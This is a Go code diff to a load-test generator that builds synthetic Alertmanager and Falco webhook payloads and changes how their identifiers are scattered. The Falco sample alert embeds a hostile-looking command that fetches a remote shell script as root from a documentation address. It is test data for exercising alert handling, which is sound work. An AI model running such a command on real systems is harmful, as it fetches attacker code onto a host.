@@ -12,6 +12,8 @@ import (
 	"sync"
 	"sync/atomic"
 	"time"
+
+	"github.com/firebreak/firebreak/internal/loadid"
 )
 
 // body is one kind of request: the hook it is posted to, the events each
@@ -31,23 +33,26 @@ var bodies = []body{
 }
 
 // amBody returns a generator of Alertmanager bodies grouping n firing
-// alerts, each with a distinct fingerprint.
+// alerts, each with a distinct fingerprint. A fingerprint is a hash in
+// Alertmanager, so it is scattered here too (internal/loadid): the run's
+// first 6 hex digits, then 10 of the scattered counter.
 func amBody(n int) func(string, int64) []byte {
 	return func(run string, i int64) []byte {
 		at := time.Now().UTC().Format(time.RFC3339Nano)
 		alerts := make([]string, n)
 		for k := range alerts {
 			id := i*int64(n) + int64(k)
-			alerts[k] = fmt.Sprintf(`{"status":"firing","labels":{"alertname":"KubePodCrashLooping","namespace":"shop","deployment":"cart-api","pod":"cart-api-7d9c-%d","severity":"critical"},"annotations":{"summary":"pod is crash looping","description":"Pod shop/cart-api is restarting 3 times / 5 minutes."},"startsAt":"%s","endsAt":"0001-01-01T00:00:00Z","generatorURL":"http://prometheus.example/graph?g0.expr=x","fingerprint":"%s%010x"}`, id, at, run, id)
+			alerts[k] = fmt.Sprintf(`{"status":"firing","labels":{"alertname":"KubePodCrashLooping","namespace":"shop","deployment":"cart-api","pod":"cart-api-7d9c-%d","severity":"critical"},"annotations":{"summary":"pod is crash looping","description":"Pod shop/cart-api is restarting 3 times / 5 minutes."},"startsAt":"%s","endsAt":"0001-01-01T00:00:00Z","generatorURL":"http://prometheus.example/graph?g0.expr=x","fingerprint":"%.6s%010x"}`, id, at, run, loadid.Scatter(uint64(id), 40))
 		}
 		return []byte(`{"version":"4","status":"firing","receiver":"fb","groupKey":"{}:{alertname=\"KubePodCrashLooping\", namespace=\"shop\"}","groupLabels":{"alertname":"KubePodCrashLooping","namespace":"shop"},"alerts":[` + strings.Join(alerts, ",") + `]}`)
 	}
 }
 
-// falcoBody returns a falcosidekick body with a distinct uuid.
+// falcoBody returns a falcosidekick body with a distinct uuid, whose last
+// group is the scattered counter (a uuid is random in Falco).
 func falcoBody(run string, i int64) []byte {
-	return []byte(fmt.Sprintf(`{"uuid":"3f1c6b0e-8a2d-4b7e-%s-%012d","output":"Notice Unexpected outbound connection (command=curl -s http://198.51.100.23/x.sh user=root k8s_ns=shop k8s_pod=cart-api-6d8f9c7b5-x2lkq)","priority":"Notice","rule":"Unexpected outbound connection destination","time":"%s","output_fields":{"container.id":"4b9e1d2c7a3f","evt.type":"connect","fd.cip":"10.42.3.17","fd.cport":48122,"fd.sip":"198.51.100.23","fd.sport":80,"k8s.ns.name":"shop","k8s.pod.name":"cart-api-6d8f9c7b5-x2lkq","proc.cmdline":"curl -s http://198.51.100.23/x.sh","proc.name":"curl","user.name":"root","user.uid":0},"source":"syscall","tags":["container","network"],"hostname":"worker-07"}`,
-		run[:4], i, time.Now().UTC().Format(time.RFC3339Nano)))
+	return []byte(fmt.Sprintf(`{"uuid":"3f1c6b0e-8a2d-4b7e-%s-%012x","output":"Notice Unexpected outbound connection (command=curl -s http://198.51.100.23/x.sh user=root k8s_ns=shop k8s_pod=cart-api-6d8f9c7b5-x2lkq)","priority":"Notice","rule":"Unexpected outbound connection destination","time":"%s","output_fields":{"container.id":"4b9e1d2c7a3f","evt.type":"connect","fd.cip":"10.42.3.17","fd.cport":48122,"fd.sip":"198.51.100.23","fd.sport":80,"k8s.ns.name":"shop","k8s.pod.name":"cart-api-6d8f9c7b5-x2lkq","proc.cmdline":"curl -s http://198.51.100.23/x.sh","proc.name":"curl","user.name":"root","user.uid":0},"source":"syscall","tags":["container","network"],"hostname":"worker-07"}`,
+		run[:4], loadid.Scatter(uint64(i), 48), time.Now().UTC().Format(time.RFC3339Nano)))
 }
 
 // result is what one load against one target measured.
